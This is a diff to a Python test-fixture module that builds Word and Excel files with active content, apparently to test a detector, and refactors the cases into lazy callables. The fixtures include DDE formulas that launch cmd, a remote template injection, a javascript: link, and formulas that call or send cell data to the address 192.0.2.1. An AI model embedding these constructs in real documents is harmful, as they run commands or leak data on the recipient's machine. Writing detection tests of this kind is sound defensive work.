@@ -5,6 +5,7 @@ from __future__ import annotations
 import re
 from collections.abc import Callable
 from dataclasses import dataclass, field
+from functools import partial
 from typing import Any
 
 from generator.office.live_content.live_kinds import Effect
@@ -37,10 +38,15 @@ class Case:
     """A file with one item of active content: its effect, its Chinese name, and the address in its problem."""
 
     name: str
-    data: bytes = field(repr=False)
+    make: Callable[[], bytes] = field(repr=False)
     effect: Effect
     called: str
     address: str = ""
+
+    @property
+    def data(self) -> bytes:
+        """The file."""
+        return self.make()
 
 
 def complex_field(*code: str, text: str = "旧") -> str:
@@ -79,10 +85,10 @@ def paragraph(inner: str, part: str = DOCUMENT) -> bytes:
 
 
 def related(data: bytes, kind: str, target: str, of: str, *, external: bool = True, base: str = OFFICE) -> bytes:
-    """``data`` with one more relationship of the part ``of``, whose id is rIdX."""
+    """``data`` with one more relationship of the part ``of``, or of the package where that is empty; its id is rIdX."""
     contents = parts(data)
     folder, _, name = of.rpartition("/")
-    listing = f"{folder}/_rels/{name}.rels"
+    listing = f"{folder}/_rels/{name}.rels".lstrip("/")
     mode = ' TargetMode="External"' if external else ""
     row = f'<Relationship Id="rIdX" Type="{base}/{kind}" Target="{target}"{mode}/>'
     empty = f'<Relationships xmlns="{_RELATIONS}"></Relationships>'
@@ -125,6 +131,16 @@ def with_formula(formula: str) -> bytes:
 
 def with_sheet(change: Callable[[Any], None]) -> bytes:
     return workbook([["名单"]], change)
+
+
+def by_code(name: str, called: str, *pieces: str) -> Case:
+    """A complex field that acts, whose code is split into these pieces."""
+    return Case(name, lambda: paragraph(complex_field(*pieces)), ACTS, called, "".join(pieces))
+
+
+def by_formula(name: str, formula: str, effect: Effect, called: str) -> Case:
+    """A cell with this formula."""
+    return Case(name, lambda: with_formula(formula), effect, called, formula)
 
 
 def picture(attributes: str) -> str:
@@ -170,43 +186,43 @@ CHANGING = (
 BOUND = ('TOC \\o "1-3" \\h', 'STYLEREF "标题 1"', "INDEX", "BIBLIOGRAPHY")
 
 FIELD_CASES = (
-    *(Case(each, paragraph(simple_field(each)), Effect.CHANGES, "会自己变的域", each) for each in CHANGING),
-    *(Case(each, paragraph(complex_field(each)), Effect.BOUND, "离不开原文件的域", each) for each in BOUND),
-    Case("day of today", paragraph("<w:r><w:dayShort/></w:r>"), Effect.CHANGES, "会自己变的域"),
+    *(Case(each, partial(paragraph, simple_field(each)), Effect.CHANGES, "会自己变的域", each) for each in CHANGING),
+    *(Case(each, partial(paragraph, complex_field(each)), Effect.BOUND, "离不开原文件的域", each) for each in BOUND),
+    Case("day of today", lambda: paragraph("<w:r><w:dayShort/></w:r>"), Effect.CHANGES, "会自己变的域"),
 )
 
 WORD_CASES = (
     Case(
         "attached template",
-        in_settings("attachedTemplate", "http://192.0.2.1/x.dotm", '<w:attachedTemplate r:id="rIdX"/>'),
+        lambda: in_settings("attachedTemplate", "http://192.0.2.1/x.dotm", '<w:attachedTemplate r:id="rIdX"/>'),
         LEFT_OUT,
         "附加的模板",
         "http://192.0.2.1/x.dotm",
     ),
     Case(
         "attached template of a computer",
-        in_settings("attachedTemplate", "file:///C:/x.dotm", '<w:attachedTemplate r:id="rIdX"/>'),
+        lambda: in_settings("attachedTemplate", "file:///C:/x.dotm", '<w:attachedTemplate r:id="rIdX"/>'),
         LEFT_OUT,
         "附加的模板",
         "file:///C:/x.dotm",
     ),
     Case(
         "subdocument",
-        related(word('<w:subDoc r:id="rIdX"/>'), "subDocument", "b.docx", DOCUMENT),
+        lambda: related(word('<w:subDoc r:id="rIdX"/>'), "subDocument", "b.docx", DOCUMENT),
         ACTS,
         "子文档",
         "b.docx",
     ),
-    Case("subdocument without a relationship", word("<w:subDoc/>"), ACTS, "子文档"),
+    Case("subdocument without a relationship", lambda: word("<w:subDoc/>"), ACTS, "子文档"),
     Case(
         "altChunk",
-        related(word('<w:altChunk r:id="rIdX"/>'), "aFChunk", "/word/a.html", DOCUMENT, external=False),
+        lambda: related(word('<w:altChunk r:id="rIdX"/>'), "aFChunk", "/word/a.html", DOCUMENT, external=False),
         ACTS,
         "打开时才并入的文件（altChunk）",
     ),
     Case(
         "linked object",
-        related(
+        lambda: related(
             paragraph('<w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="rIdX"/></w:object></w:r>'),
             "oleObject",
             WEB,
@@ -218,13 +234,13 @@ WORD_CASES = (
     ),
     Case(
         "linked object that says so",
-        paragraph('<w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12"/></w:object></w:r>'),
+        lambda: paragraph('<w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12"/></w:object></w:r>'),
         ACTS,
         "链接到文件的对象（OLE）",
     ),
     Case(
         "macros",
-        holding(
+        lambda: holding(
             related(word(), "vbaProject", "vbaProject.bin", DOCUMENT, external=False, base=MICROSOFT),
             "word/vbaProject.bin",
             VBA,
@@ -235,7 +251,7 @@ WORD_CASES = (
     ),
     Case(
         "macros under a plain type",
-        holding(
+        lambda: holding(
             related(word(), "vbaProject", "a.bin", DOCUMENT, external=False, base=MICROSOFT),
             "word/a.bin",
             b"x",
@@ -246,7 +262,7 @@ WORD_CASES = (
     ),
     Case(
         "macros as a picture",
-        holding(
+        lambda: holding(
             related(word(), "image", "media/a.png", DOCUMENT, external=False), "word/media/a.png", VBA, "image/png"
         ),
         ACTS,
@@ -254,13 +270,13 @@ WORD_CASES = (
     ),
     Case(
         "macros that nothing refers to",
-        holding(word(), "word/vbaProject.bin", b"x", "application/octet-stream"),
+        lambda: holding(word(), "word/vbaProject.bin", b"x", "application/octet-stream"),
         ACTS,
         "宏",
     ),
     Case(
         "an embedded workbook with macros",
-        holding(
+        lambda: holding(
             related(word(), "package", "embeddings/a.xlsm", DOCUMENT, external=False),
             "word/embeddings/a.xlsm",
             b"PK",
@@ -271,7 +287,7 @@ WORD_CASES = (
     ),
     Case(
         "control",
-        holding(
+        lambda: holding(
             related(
                 paragraph('<w:r><w:control r:id="rIdX"/></w:r>'),
                 "control",
@@ -286,103 +302,81 @@ WORD_CASES = (
         ACTS,
         "控件",
     ),
-    Case("control without a relationship", paragraph("<w:r><w:control/></w:r>"), ACTS, "控件"),
-    Case(
-        "field of a control",
-        paragraph(complex_field("CONTROL Forms.TextBox.1 \\s")),
-        ACTS,
-        "控件",
-        "CONTROL Forms.TextBox.1 \\s",
-    ),
+    Case("control without a relationship", lambda: paragraph("<w:r><w:control/></w:r>"), ACTS, "控件"),
+    by_code("field of a control", "控件", "CONTROL Forms.TextBox.1 \\s"),
     Case(
         "web add-in",
-        holding(word(), "word/webextensions/webextension1.xml", b"<x/>", "application/vnd.ms-office.webextension+xml"),
+        lambda: holding(
+            word(), "word/webextensions/webextension1.xml", b"<x/>", "application/vnd.ms-office.webextension+xml"
+        ),
         ACTS,
         "脚本或者网页加载项",
     ),
     Case(
         "web video",
-        paragraph('<w:r><w:drawing><wp15:webVideoPr embeddedHtml="&lt;iframe&gt;"/></w:drawing></w:r>'),
+        lambda: paragraph('<w:r><w:drawing><wp15:webVideoPr embeddedHtml="&lt;iframe&gt;"/></w:drawing></w:r>'),
         ACTS,
         "脚本或者网页加载项",
         "<iframe>",
     ),
     Case(
         "script link",
-        related(paragraph('<w:hyperlink r:id="rIdX"/>'), "hyperlink", "java&#10;script:alert(1)", DOCUMENT),
+        lambda: related(paragraph('<w:hyperlink r:id="rIdX"/>'), "hyperlink", "java&#10;script:alert(1)", DOCUMENT),
         ACTS,
         "脚本或者网页加载项",
         "java\nscript:alert(1)",
     ),
     Case(
         "search link",
-        related(word(), "hyperlink", "search-ms:query=a&amp;crumb=location:x", DOCUMENT),
+        lambda: related(word(), "hyperlink", "search-ms:query=a&amp;crumb=location:x", DOCUMENT),
         ACTS,
         "脚本或者网页加载项",
         "search-ms:query=a&crumb=location:x",
     ),
     Case(
         "file link",
-        related(paragraph('<w:hyperlink r:id="rIdX"/>'), "hyperlink", "file:///C:/a.docx", DOCUMENT),
+        lambda: related(paragraph('<w:hyperlink r:id="rIdX"/>'), "hyperlink", "file:///C:/a.docx", DOCUMENT),
         ACTS,
         _FILE,
         "file:///C:/a.docx",
     ),
     Case(
         "file link in escapes",
-        related(word(), "hyperlink", "%66ile:///C:/a.docx", DOCUMENT),
+        lambda: related(word(), "hyperlink", "%66ile:///C:/a.docx", DOCUMENT),
         ACTS,
         _FILE,
         "%66ile:///C:/a.docx",
     ),
-    Case("share link", related(word(), "hyperlink", SHARE, DOCUMENT), ACTS, _FILE, SHARE),
+    Case("share link", lambda: related(word(), "hyperlink", SHARE, DOCUMENT), ACTS, _FILE, SHARE),
     Case(
         "drive link in a header",
-        related(word(part="header"), "hyperlink", "D:\\a.docx", "word/header1.xml"),
+        lambda: related(word(part="header"), "hyperlink", "D:\\a.docx", "word/header1.xml"),
         ACTS,
         _FILE,
         "D:\\a.docx",
     ),
-    Case(
-        "file link of a field",
-        paragraph(complex_field('HYPERLINK "file:///C:/a.docx"')),
-        ACTS,
-        _FILE,
-        'HYPERLINK "file:///C:/a.docx"',
-    ),
-    Case(
-        "share link of a field",
-        paragraph(complex_field(r'HYPERLINK \o "提示" "\\\\192.0.2.1\\a"')),
-        ACTS,
-        _FILE,
-        r'HYPERLINK \o "提示" "\\\\192.0.2.1\\a"',
-    ),
-    Case("DDEAUTO", paragraph(complex_field(_DDE)), ACTS, _CODE_DDE, _DDE),
-    Case(
-        "DDE cut over runs",
-        paragraph(complex_field("D", "D", "EAU", r'TO c:\\x "a"')),
-        ACTS,
-        _CODE_DDE,
-        r'DDEAUTO c:\\x "a"',
-    ),
-    Case("DDE in small letters", paragraph(simple_field("dde x y")), ACTS, _CODE_DDE, "dde x y"),
+    by_code("file link of a field", _FILE, 'HYPERLINK "file:///C:/a.docx"'),
+    by_code("share link of a field", _FILE, r'HYPERLINK \o "提示" "\\\\192.0.2.1\\a"'),
+    by_code("DDEAUTO", _CODE_DDE, _DDE),
+    by_code("DDE cut over runs", _CODE_DDE, "D", "D", "EAU", r'TO c:\\x "a"'),
+    Case("DDE in small letters", lambda: paragraph(simple_field("dde x y")), ACTS, _CODE_DDE, "dde x y"),
     Case(
         "DDE over paragraphs",
-        word(f"<w:p>{_mark('begin')}{_code('DDE')}</w:p><w:p>{_code(' x y')}{_mark('end')}</w:p>"),
+        lambda: word(f"<w:p>{_mark('begin')}{_code('DDE')}</w:p><w:p>{_code(' x y')}{_mark('end')}</w:p>"),
         ACTS,
         _CODE_DDE,
         "DDE x y",
     ),
     Case(
         "DDE that never ends",
-        paragraph(f"{_mark('begin')}<w:r><w:instrText>DDE x y</w:instrText></w:r>"),
+        lambda: paragraph(f"{_mark('begin')}<w:r><w:instrText>DDE x y</w:instrText></w:r>"),
         ACTS,
         _CODE_DDE,
         "DDE x y甲",
     ),
     Case(
         "DDE within a condition",
-        paragraph(
+        lambda: paragraph(
             f"{_mark('begin')}{_code('IF 1 = 1 &quot;')}{complex_field('DDE x y')}{_code('&quot;')}{_mark('end')}"
         ),
         ACTS,
@@ -391,90 +385,92 @@ WORD_CASES = (
     ),
     Case(
         "DDE within a result",
-        paragraph(f"{_mark('begin')}{_code('PAGE')}{_mark('separate')}{complex_field('DDE x y')}{_mark('end')}"),
+        lambda: paragraph(
+            f"{_mark('begin')}{_code('PAGE')}{_mark('separate')}{complex_field('DDE x y')}{_mark('end')}"
+        ),
         ACTS,
         _CODE_DDE,
         "DDE x y",
     ),
     Case(
         "DDE with its code as text",
-        paragraph(f"{_mark('begin')}<w:r><w:t>DDE x y</w:t></w:r>{_mark('end')}"),
+        lambda: paragraph(f"{_mark('begin')}<w:r><w:t>DDE x y</w:t></w:r>{_mark('end')}"),
         ACTS,
         _CODE_DDE,
         "DDE x y",
     ),
     Case(
         "INCLUDETEXT in a footer",
-        word(f"<w:p>{complex_field('INCLUDETEXT &quot;C:/a.docx&quot;')}</w:p>", "footer"),
+        lambda: word(f"<w:p>{complex_field('INCLUDETEXT &quot;C:/a.docx&quot;')}</w:p>", "footer"),
         ACTS,
         _CODE_FIELD,
         'INCLUDETEXT "C:/a.docx"',
     ),
+    by_code("INCLUDEPICTURE", _CODE_FIELD, 'INCLUDEPICTURE "http://192.0.2.1/a.png" \\d'),
+    by_code("LINK", _CODE_FIELD, 'LINK Excel.Sheet.12 "C:\\\\a.xlsx" "A1" \\a'),
+    Case("RD", lambda: paragraph(simple_field("RD &quot;C:/a.docx&quot;")), ACTS, _CODE_FIELD, 'RD "C:/a.docx"'),
     Case(
-        "INCLUDEPICTURE",
-        paragraph(complex_field('INCLUDEPICTURE "http://192.0.2.1/a.png" \\d')),
+        "MACROBUTTON",
+        lambda: paragraph(simple_field("MACROBUTTON Run 点这里")),
         ACTS,
         _CODE_FIELD,
-        'INCLUDEPICTURE "http://192.0.2.1/a.png" \\d',
+        "MACROBUTTON Run 点这里",
     ),
-    Case(
-        "LINK",
-        paragraph(complex_field('LINK Excel.Sheet.12 "C:\\\\a.xlsx" "A1" \\a')),
-        ACTS,
-        _CODE_FIELD,
-        'LINK Excel.Sheet.12 "C:\\\\a.xlsx" "A1" \\a',
-    ),
-    Case("RD", paragraph(simple_field("RD &quot;C:/a.docx&quot;")), ACTS, _CODE_FIELD, 'RD "C:/a.docx"'),
-    Case("MACROBUTTON", paragraph(simple_field("MACROBUTTON Run 点这里")), ACTS, _CODE_FIELD, "MACROBUTTON Run 点这里"),
     Case(
         "DDE under other prefixes",
-        under_other_prefixes(f"<w:p>{complex_field('DDE', ' x y')}</w:p>"),
+        lambda: under_other_prefixes(f"<w:p>{complex_field('DDE', ' x y')}</w:p>"),
         ACTS,
         _CODE_DDE,
         "DDE x y",
     ),
-    Case("subdocument under other prefixes", under_other_prefixes("<w:p/><w:subDoc/>"), ACTS, "子文档"),
-    Case("linked picture", related(paragraph(picture('r:link="rIdX"')), "image", WEB, DOCUMENT), REACHES, _LINKED, WEB),
+    Case("subdocument under other prefixes", lambda: under_other_prefixes("<w:p/><w:subDoc/>"), ACTS, "子文档"),
     Case(
-        "linked picture of a computer",
-        related(paragraph(picture('r:link="rIdX"')), "image", LOCAL, DOCUMENT),
-        ACTS,
-        _FILE,
-        LOCAL,
-    ),
-    Case("picture of VML by its address", paragraph(vml(f'<v:imagedata src="{WEB}"/>')), REACHES, _LINKED, WEB),
-    Case(
-        "picture of VML by a relationship",
-        related(paragraph(vml('<v:imagedata r:href="rIdX"/>')), "image", WEB, DOCUMENT),
+        "linked picture",
+        lambda: related(paragraph(picture('r:link="rIdX"')), "image", WEB, DOCUMENT),
         REACHES,
         _LINKED,
         WEB,
     ),
-    Case("fill of VML", paragraph(vml(f'<v:fill type="frame" o:href="{WEB}"/>')), REACHES, _LINKED, WEB),
+    Case(
+        "linked picture of a computer",
+        lambda: related(paragraph(picture('r:link="rIdX"')), "image", LOCAL, DOCUMENT),
+        ACTS,
+        _FILE,
+        LOCAL,
+    ),
+    Case("picture of VML by its address", lambda: paragraph(vml(f'<v:imagedata src="{WEB}"/>')), REACHES, _LINKED, WEB),
+    Case(
+        "picture of VML by a relationship",
+        lambda: related(paragraph(vml('<v:imagedata r:href="rIdX"/>')), "image", WEB, DOCUMENT),
+        REACHES,
+        _LINKED,
+        WEB,
+    ),
+    Case("fill of VML", lambda: paragraph(vml(f'<v:fill type="frame" o:href="{WEB}"/>')), REACHES, _LINKED, WEB),
     Case(
         "fill of VML from a share",
-        paragraph(vml(r'<v:fill type="frame" src="\\192.0.2.1\a.png"/>')),
+        lambda: paragraph(vml(r'<v:fill type="frame" src="\\192.0.2.1\a.png"/>')),
         ACTS,
         _FILE,
         r"\\192.0.2.1\a.png",
     ),
     Case(
         "shape that links to a file",
-        paragraph('<w:r><w:pict><v:shape href="file:///C:/a.exe"/></w:pict></w:r>'),
+        lambda: paragraph('<w:r><w:pict><v:shape href="file:///C:/a.exe"/></w:pict></w:r>'),
         ACTS,
         _FILE,
         "file:///C:/a.exe",
     ),
     Case(
         "page in a frame",
-        related(word(), "frame", "http://192.0.2.1/", SETTINGS),
+        lambda: related(word(), "frame", "http://192.0.2.1/", SETTINGS),
         ACTS,
         "框架里的网页",
         "http://192.0.2.1/",
     ),
     Case(
         "something unheard of",
-        related(word(), "novelty", "http://192.0.2.1/", DOCUMENT),
+        lambda: related(word(), "novelty", "http://192.0.2.1/", DOCUMENT),
         REACHES,
         "链接到外部的内容",
         "http://192.0.2.1/",
@@ -482,68 +478,40 @@ WORD_CASES = (
 )
 
 SHEET_CASES = (
-    Case(
-        "web service",
-        with_formula('_xlfn.WEBSERVICE("http://192.0.2.1/")'),
-        REACHES,
-        "会访问外部的公式",
-        '_xlfn.WEBSERVICE("http://192.0.2.1/")',
-    ),
+    by_formula("web service", '_xlfn.WEBSERVICE("http://192.0.2.1/")', REACHES, "会访问外部的公式"),
     Case(
         "web service in a name",
-        with_sheet(_named),
+        lambda: with_sheet(_named),
         REACHES,
         "会访问外部的公式",
         '_xlfn.WEBSERVICE("http://192.0.2.1/")',
     ),
-    Case(
-        "link by formula",
-        with_formula('HYPERLINK("http://192.0.2.1/"&A1,"看")'),
-        REACHES,
-        "会访问外部的公式",
-        'HYPERLINK("http://192.0.2.1/"&A1,"看")',
-    ),
-    Case(
-        "file link by formula",
-        with_formula('hyperlink("file:///C:/a.exe")'),
-        ACTS,
-        _FILE,
-        'hyperlink("file:///C:/a.exe")',
-    ),
-    Case(
-        "picture by formula",
-        with_formula('_xlfn.IMAGE("http://192.0.2.1/a.png")'),
-        REACHES,
-        "会访问外部的公式",
-        '_xlfn.IMAGE("http://192.0.2.1/a.png")',
-    ),
-    Case("program by formula", with_formula("cmd|'/c calc'!A0"), ACTS, _CODE_DDE, "cmd|'/c calc'!A0"),
-    Case("program by function", with_formula('DDE("soffice","a","b")'), ACTS, _CODE_DDE, 'DDE("soffice","a","b")'),
-    Case("real-time data", with_formula('RTD("x",,"y")'), ACTS, _CODE_DDE, 'RTD("x",,"y")'),
-    Case(
-        "other workbook by its path",
-        with_formula("'C:\\a\\[b.xlsx]Sheet1'!A1"),
-        REACHES,
-        "引用其他工作簿的链接",
-        "'C:\\a\\[b.xlsx]Sheet1'!A1",
-    ),
+    by_formula("link by formula", 'HYPERLINK("http://192.0.2.1/"&A1,"看")', REACHES, "会访问外部的公式"),
+    by_formula("file link by formula", 'hyperlink("file:///C:/a.exe")', ACTS, _FILE),
+    by_formula("picture by formula", '_xlfn.IMAGE("http://192.0.2.1/a.png")', REACHES, "会访问外部的公式"),
+    by_formula("program by formula", "cmd|'/c calc'!A0", ACTS, _CODE_DDE),
+    by_formula("program by function", 'DDE("soffice","a","b")', ACTS, _CODE_DDE),
+    by_formula("real-time data", 'RTD("x",,"y")', ACTS, _CODE_DDE),
+    by_formula("other workbook by its path", "'C:\\a\\[b.xlsx]Sheet1'!A1", REACHES, "引用其他工作簿的链接"),
     Case(
         "other workbook in a rule",
-        with_sheet(_validated),
+        lambda: with_sheet(_validated),
         REACHES,
         "引用其他工作簿的链接",
         "'file:///C:/示例/b.xlsx'#$Sheet1.A1:A9",
     ),
     Case(
         "other workbook by a relationship",
-        related(workbook([["名单"]]), "externalLinkPath", "file:///C:/b.xlsx", "xl/externalLinks/externalLink1.xml"),
+        lambda: related(
+            workbook([["名单"]]), "externalLinkPath", "file:///C:/b.xlsx", "xl/externalLinks/externalLink1.xml"
+        ),
         REACHES,
         "引用其他工作簿的链接",
         "file:///C:/b.xlsx",
     ),
     Case(
         "program by a relationship",
-        holding(
+        lambda: holding(
             workbook([["名单"]]),
             "xl/externalLinks/externalLink1.xml",
             b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
@@ -555,50 +523,58 @@ SHEET_CASES = (
     ),
     Case(
         "connection",
-        related(workbook([["名单"]]), "connections", "connections.xml", BOOK, external=False),
+        lambda: related(workbook([["名单"]]), "connections", "connections.xml", BOOK, external=False),
         REACHES,
         "外部数据连接",
     ),
     Case(
         "macros of a workbook under a plain type",
-        holding(workbook([["名单"]]), "xl/a.bin", VBA, "application/octet-stream"),
+        lambda: holding(workbook([["名单"]]), "xl/a.bin", VBA, "application/octet-stream"),
         ACTS,
         "宏",
     ),
     Case(
         "macro sheet",
-        holding(workbook([["名单"]]), "xl/macrosheets/sheet1.xml", b"<x/>", "application/vnd.ms-excel.macrosheet+xml"),
+        lambda: holding(
+            workbook([["名单"]]), "xl/macrosheets/sheet1.xml", b"<x/>", "application/vnd.ms-excel.macrosheet+xml"
+        ),
         ACTS,
         "宏",
     ),
     Case(
         "control of a workbook",
-        related(workbook([["名单"]]), "control", "../activeX/a.xml", SHEET, external=False),
+        lambda: related(workbook([["名单"]]), "control", "../activeX/a.xml", SHEET, external=False),
         ACTS,
         "控件",
     ),
-    Case("file link of a cell", _linked_cell("file:///C:/a.exe"), ACTS, _FILE, "file:///C:/a.exe"),
+    Case("file link of a cell", lambda: _linked_cell("file:///C:/a.exe"), ACTS, _FILE, "file:///C:/a.exe"),
 )
 
 HARMLESS = (
-    ("a plain document", word()),
-    ("web link", related(word(), "hyperlink", "https://example.org/a?b=c:d", DOCUMENT)),
-    ("mail link", related(word(), "hyperlink", "mailto:a@example.org", DOCUMENT)),
-    ("telephone link", related(word(), "hyperlink", "tel:023-00000000", DOCUMENT)),
-    ("link to a file beside", related(word(), "hyperlink", "附件1.docx", DOCUMENT)),
-    ("link with a tag", related(word(), "hyperlink", "https://example.org/%7B%7B%20unit.code%20%7D%7D", DOCUMENT)),
-    ("web link of a field", paragraph(complex_field('HYPERLINK "https://example.org/"'))),
-    ("frame of a link", paragraph(complex_field(r'HYPERLINK "https://example.org/" \t "/Users/a" \o "\\\\a\\b"'))),
-    ("link within the document", paragraph(complex_field('HYPERLINK \\l "_Toc1" \\o "说明"'))),
-    ("page number", paragraph(simple_field(" PAGE \\* MERGEFORMAT "))),
-    ("merge field called DDE", paragraph(complex_field("MERGEFIELD DDE"))),
-    ("reference to a bookmark", paragraph(f'<w:bookmarkStart w:name="甲"/>{complex_field("REF 甲")}')),
-    ("reference to a value", paragraph(complex_field("SET 甲 1") + complex_field("REF 甲"))),
-    ("place to click at", paragraph(simple_field("MACROBUTTON NoMacro 点这里"))),
-    ("references of an add-in", paragraph(complex_field("ADDIN EN.CITE"))),
+    ("a plain document", lambda: word()),
+    ("web link", lambda: related(word(), "hyperlink", "https://example.org/a?b=c:d", DOCUMENT)),
+    ("mail link", lambda: related(word(), "hyperlink", "mailto:a@example.org", DOCUMENT)),
+    ("telephone link", lambda: related(word(), "hyperlink", "tel:023-00000000", DOCUMENT)),
+    ("link to a file beside", lambda: related(word(), "hyperlink", "附件1.docx", DOCUMENT)),
+    (
+        "link with a tag",
+        lambda: related(word(), "hyperlink", "https://example.org/%7B%7B%20unit.code%20%7D%7D", DOCUMENT),
+    ),
+    ("web link of a field", lambda: paragraph(complex_field('HYPERLINK "https://example.org/"'))),
+    (
+        "frame of a link",
+        lambda: paragraph(complex_field(r'HYPERLINK "https://example.org/" \t "/Users/a" \o "\\\\a\\b"')),
+    ),
+    ("link within the document", lambda: paragraph(complex_field('HYPERLINK \\l "_Toc1" \\o "说明"'))),
+    ("page number", lambda: paragraph(simple_field(" PAGE \\* MERGEFORMAT "))),
+    ("merge field called DDE", lambda: paragraph(complex_field("MERGEFIELD DDE"))),
+    ("reference to a bookmark", lambda: paragraph(f'<w:bookmarkStart w:name="甲"/>{complex_field("REF 甲")}')),
+    ("reference to a value", lambda: paragraph(complex_field("SET 甲 1") + complex_field("REF 甲"))),
+    ("place to click at", lambda: paragraph(simple_field("MACROBUTTON NoMacro 点这里"))),
+    ("references of an add-in", lambda: paragraph(complex_field("ADDIN EN.CITE"))),
     (
         "embedded object",
-        related(
+        lambda: related(
             paragraph('<w:r><w:object><o:OLEObject Type="Embed" r:id="rIdX"/></w:object></w:r>'),
             "oleObject",
             "embeddings/a.bin",
@@ -608,14 +584,14 @@ HARMLESS = (
     ),
     (
         "embedded picture",
-        related(paragraph(picture('r:embed="rIdX"')), "image", "media/a.png", DOCUMENT, external=False),
+        lambda: related(paragraph(picture('r:embed="rIdX"')), "image", "media/a.png", DOCUMENT, external=False),
     ),
-    ("text about DDE", word("<w:p><w:r><w:t>DDEAUTO c:\\x</w:t></w:r></w:p>")),
-    ("a plain workbook", workbook([["名单"], ["A|B"], ['WEBSERVICE("x")']])),
-    ("sum", with_formula("SUM(A1:A9)")),
-    ("functions of like names", with_formula("MYIMAGE(1)+IMAGES(2)")),
-    ("words about them", with_formula('"WEBSERVICE(""x"")|[a.xlsx]"&A1')),
-    ("table column", with_formula("SUM(表1[2024])")),
-    ("link within the workbook", with_formula('HYPERLINK("#Sheet2!A1","看")')),
-    ("web link of a cell", _linked_cell("https://example.org/")),
+    ("text about DDE", lambda: word("<w:p><w:r><w:t>DDEAUTO c:\\x</w:t></w:r></w:p>")),
+    ("a plain workbook", lambda: workbook([["名单"], ["A|B"], ['WEBSERVICE("x")']])),
+    ("sum", lambda: with_formula("SUM(A1:A9)")),
+    ("functions of like names", lambda: with_formula("MYIMAGE(1)+IMAGES(2)")),
+    ("words about them", lambda: with_formula('"WEBSERVICE(""x"")|[a.xlsx]"&A1')),
+    ("table column", lambda: with_formula("SUM(表1[2024])")),
+    ("link within the workbook", lambda: with_formula('HYPERLINK("#Sheet2!A1","看")')),
+    ("web link of a cell", lambda: _linked_cell("https://example.org/")),
 )
